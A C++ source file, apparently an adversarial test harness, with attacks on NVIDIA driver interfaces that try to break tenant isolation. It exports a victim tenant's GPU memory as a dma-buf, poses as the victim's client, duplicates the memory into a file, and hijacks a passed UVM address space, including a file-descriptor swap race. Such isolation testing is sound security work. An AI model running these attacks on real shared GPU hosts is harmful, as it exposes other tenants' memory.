// Attacks that carry others' objects away in files: dma-bufs and exports, which live on when
// everybody whose memory it was is gone.
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <bit>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <fstream>
#include <sstream>
#include <thread>

#include "common.h"
#include "rm/nv_controls.h"
#include "rm/nv_ctrl.h"
#include "uvm_client.h"

namespace cgpu::adversary {
namespace {

constexpr std::uint32_t kOwnHandles = 0xcb000000;

std::uint32_t Handle(const std::vector<std::string>& args, std::size_t index) {
  return static_cast<std::uint32_t>(Number(args, index, 0));
}

// NV_ESC_EXPORT_TO_DMABUF_FD in 550's layout (nv-ioctl.h nv_ioctl_export_to_dma_buf_fd_t).
struct DmaBuf {
  std::int32_t fd;
  std::uint32_t client;
  std::uint32_t total_objects;
  std::uint32_t objects;
  std::uint32_t index;
  std::uint64_t total_size;
  std::uint32_t handles[128];
  std::uint64_t offsets[128];
  std::uint64_t sizes[128];
  std::uint32_t status;
};
static_assert(sizeof(DmaBuf) == 2600);

std::uint32_t ExportDmaBuf(int gpu, std::uint32_t client, std::uint32_t memory,
                           const Issue& issue) {
  DmaBuf call{};
  call.fd = -1;
  call.client = client;
  call.total_objects = 1;
  call.objects = 1;
  call.total_size = kMiB;
  call.handles[0] = memory;
  call.sizes[0] = kMiB;
  const int error = issue(gpu, rm::NV_ESC_EXPORT_TO_DMABUF_FD, &call, sizeof(call));
  return error != 0 ? kNoAnswer : call.status;
}

// CLIENT MEMORY: the driver makes the duplicate for itself and does not ask whose the memory is.
int DmaBufs(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const std::uint32_t memory = Handle(args, 1);
  const Client client = MakeClient();
  const int spare = OpenControl();  // the simulated driver turns this into the dma-buf
  Say("dma-buf 0x%x", ExportDmaBuf(client.gpu, victim, memory, Plainly));
  const int second = OpenControl();
  Say("wrapped 0x%x", ExportDmaBuf(client.gpu, victim, memory, Wrapped));
  // Nothing of one's own is left but the files.
  Say("freed 0x%x", client.Free(client.root));
  Hold();
  close(spare);
  close(second);
  return 0;
}

std::uint32_t ExportMany(const Client& client, const std::vector<std::uint32_t>& objects,
                         int file) {
  rm::NV0000_CTRL_OS_UNIX_EXPORT_OBJECTS_TO_FD_PARAMS params{};
  params.fd = file;
  params.hDevice = Client::kDevice;
  params.maxObjects = static_cast<std::uint16_t>(objects.size());
  params.numObjects = params.maxObjects;
  std::copy(objects.begin(), objects.end(), params.objects);
  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECTS_TO_FD, &params,
                        sizeof(params));
}

// CLIENT MEMORY single|many: gives itself the right to the tenant's memory, copies it, exports the
// copy and lets everything go but the file.
int Extract(const std::vector<std::string>& args) {
  const std::uint32_t victim = Handle(args, 0);
  const std::uint32_t memory = Handle(args, 1);
  const bool many = args.size() > 2 && args[2] == "many";
  Client client = MakeClient();
  client.next = kOwnHandles;
  // By the handle alone, and on the tenant's client: these the driver refuses.
  const int file = OpenControl();
  Client posing = client;
  posing.root = victim;
  Say("foreign 0x%x", many ? ExportMany(client, {memory}, file) : client.Export(memory, file));
  Say("posing 0x%x", many ? ExportMany(posing, {memory}, file) : posing.Export(memory, file));
  Say("allow 0x%x", Share(client, victim, memory, client.root));
  const std::uint32_t copy = client.next++;
  Say("dup 0x%x", client.Dup(victim, memory, copy));
  Say("export 0x%x", many ? ExportMany(client, {copy}, file) : client.Export(copy, file));
  Say("freed 0x%x", client.Free(client.root));
  close(client.ctl);
  close(client.gpu);
  Hold();
  close(file);
  return 0;
}

std::uint32_t Info(const Client& client, int file) {
  rm::NV0000_CTRL_OS_UNIX_GET_EXPORT_OBJECT_INFO_PARAMS_V550 info{};
  info.fd = file;
  return client.Control(client.root, rm::NV0000_CTRL_CMD_OS_UNIX_GET_EXPORT_OBJECT_INFO, &info,
                        sizeof(info));
}

// NAME: asks about the exports on the file that comes from there, and about one of its own.
int ExportInfo(const std::vector<std::string>& args) {
  Client client = MakeClient();
  const int file = ReceiveFd(ConnectTo(args.at(0)));
  Say("info 0x%x", Info(client, file));
  close(file);
  const int own = OpenControl();
  std::uint32_t object = 0;
  if (client.AllocMemory(1, &object) != rm::NV_OK || client.Export(object, own) != rm::NV_OK) {
    Die("failed: no export");
  }
  Say("own info 0x%x", Info(client, own));
  Hold();
  return 0;
}

constexpr std::uint64_t kSenders = 0x100000000000;  // addresses free in any process of ours
constexpr std::uint64_t kReceivers = 0x200000000000;

// Registers two channels of one group, each with addresses of its own, and takes the first away.
// UVM keeps what it has mapped for both at the first one's addresses.
void RegisterChannels(UvmClient& uvm, std::uint64_t base, std::uint64_t length) {
  constexpr std::uint64_t kSecond = 0x300000000000;
  std::uint32_t status = rm::NV_OK;
  const std::uint32_t group = Group(uvm.client, UvmClient::kVaSpace, &status);
  std::uint32_t first = 0;
  for (const std::uint64_t at : {base, kSecond}) {
    const std::uint32_t channel = Channel(uvm.client, group, 0, 0, &status);
    first = at == base ? channel : first;
    rm::UVM_REGISTER_CHANNEL_PARAMS params{
        uvm.uuid, uvm.client.ctl, uvm.client.root, channel, at, length, 0, 0};
    if (status != rm::NV_OK || uvm.Ask(rm::UVM_REGISTER_CHANNEL, &params) != rm::NV_OK) {
      Die("failed: no channel: 0x%x 0x%x", status, params.rmStatus);
    }
  }
  rm::UVM_UNREGISTER_CHANNEL_PARAMS_V535 away{uvm.uuid, uvm.client.root, first, 0};
  if (uvm.Ask(rm::UVM_UNREGISTER_CHANNEL, &away) != rm::NV_OK) {
    Die("failed: a channel stays");
  }
}

// NAME [MIB]: a tenant that hands out nvidia-uvm's file with its address space, in which it has
// mappings, and channels that may be anywhere in so much.
int SpaceSender(const std::vector<std::string>& args) {
  UvmClient uvm = MakeUvmClient();
  RegisterChannels(uvm, kReceivers - 1024 * kMiB, Number(args, 1, 256) * kMiB);
  constexpr std::uint64_t kSize = 64 * kMiB;
  std::uint32_t memory = 0;
  if (uvm.client.AllocMemory(64, &memory) != rm::NV_OK ||
      uvm.CreateRange(kSenders, kSize) != rm::NV_OK ||
      uvm.Map(kSenders, kSize, memory) != rm::NV_OK) {
    Die("failed: cannot map");
  }
  HandOut(args.at(0), uvm.uvm);
  std::string line;
  while (Line(&line)) {
    const bool whole =
        uvm.Unmap(kSenders, kSize) == rm::NV_OK && uvm.Map(kSenders, kSize, memory) == rm::NV_OK;
    Say(whole ? "undisturbed" : "disturbed");
  }
  return 0;
}

// NAME: makes itself at home in the sender's space: managed memory in it, and away with what is
// there.
int SpaceReceiver(const std::vector<std::string>& args) {
  const int file = ReceiveFd(ConnectTo(args.at(0)));
  UvmClient posing = MakeUvmClient();
  const int own = posing.uvm;
  posing.uvm = file;
  constexpr std::uint64_t kStep = 256 * kMiB;
  std::uint64_t managed = 0;
  for (std::uint64_t at = kReceivers; managed < 4096 * kMiB; at += kStep, managed += kStep) {
    void* got = mmap(std::bit_cast<void*>(at), kStep, PROT_READ | PROT_WRITE,
                     MAP_SHARED | MAP_FIXED, file, static_cast<off_t>(at));
    rm::UVM_UNMAP_EXTERNAL_PARAMS valid{at, kStep, {}, 0, 0};
    if (got == MAP_FAILED || posing.Ask(rm::UVM_VALIDATE_VA_RANGE, &valid) != rm::NV_OK) {
      break;
    }
  }
  Say("managed %llu MiB", static_cast<unsigned long long>(managed / kMiB));
  Say("range 0x%x", posing.CreateRange(kReceivers * 2, 64 * kMiB));
  Say("unmap 0x%x", posing.Unmap(kSenders, 64 * kMiB));
  Say("free 0x%x", posing.FreeRange(kSenders, 64 * kMiB));
  posing.uvm = own;
  Say("own range 0x%x", posing.CreateRange(kSenders, 64 * kMiB));
  Hold();
  return 0;
}

// Returns whether this process has a mapping of nvidia-uvm's that begins there.
bool IsOfUvm(std::uint64_t at) {
  std::ifstream maps("/proc/self/maps");
  std::stringstream begin;
  begin << std::hex << at << '-';
  for (std::string line; std::getline(maps, line);) {
    if (line.starts_with(begin.str())) {
      return line.find("nvidia-uvm") != std::string::npos;
    }
  }
  return false;
}

// Always has one mapping, each at another address for less time than lies between two looks.
[[noreturn]] void MoveAround(int file, std::uint64_t at, std::uint64_t size) {
  for (std::uint64_t i = 0;; ++i) {
    const std::uint64_t before = at + 2 * ((i + 1) % 2) * size;
    const std::uint64_t next = at + 2 * (i % 2) * size;
    if (!MapManaged(file, next, size)) {
      Die("failed: cannot map: %s", std::strerror(errno));
    }
    munmap(std::bit_cast<void*>(before), size);
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }
}

// NAME ["swap"|"moves"]: makes managed memory in the sender's space, without a GPU or a space of
// its own. "swap": the number that it maps leads to an ordinary file and to the sender's in turn.
// "moves": always has a mapping, but never one for long.
int SpaceGuest(const std::vector<std::string>& args) {
  const int file = ReceiveFd(ConnectTo(args.at(0)));
  const bool swap = args.size() > 1 && args[1] == "swap";
  const int ordinary = memfd_create("ordinary", MFD_CLOEXEC);
  const int slot = dup(file);
  if (ordinary < 0 || slot < 0 || ftruncate(ordinary, off_t{1} << 62U) != 0) {
    Die("failed: no file");
  }
  std::atomic<bool> ended{false};
  std::thread swapper([&] {
    while (swap && !ended) {
      dup2(ordinary, slot);
      dup2(file, slot);
    }
  });
  constexpr std::uint64_t kStep = 256 * kMiB;
  std::uint64_t managed = 0;
  std::uint64_t at = kReceivers;
  for (int i = 0; i < (swap ? 3000 : 16); ++i) {
    if (!MapManaged(slot, at, kStep)) {
      continue;
    }
    if (IsOfUvm(at)) {
      managed += kStep;
      at += 2 * kStep;  // neighbours would become one mapping
    } else {
      munmap(std::bit_cast<void*>(at), kStep);
    }
  }
  ended = true;
  swapper.join();
  Say("managed %llu MiB", static_cast<unsigned long long>(managed / kMiB));
  if (args.size() > 1 && !swap) {
    munmap(std::bit_cast<void*>(kReceivers), at - kReceivers);
    MoveAround(file, 2 * kReceivers, kStep);
  }
  Hold();
  return 0;
}

}  // namespace

std::vector<Entry> TransferAttacks() {
  return {
      {"dma-buf", DmaBufs, "CLIENT MEMORY: the tenant's memory as a dma-buf"},
      {"extract", Extract, "CLIENT MEMORY single|many: the tenant's memory in a file"},
      {"export-info", ExportInfo, "NAME: asks about the exports that come from there"},
      {"space-sender", SpaceSender, "NAME [MIB]: hands its UVM address space out"},
      {"space-receiver", SpaceReceiver, "NAME: uses what comes from there"},
      {"space-guest", SpaceGuest,
       "NAME [swap|moves]: maps what comes from there, and has no GPU itself"},
  };
}

}  // namespace cgpu::adversary
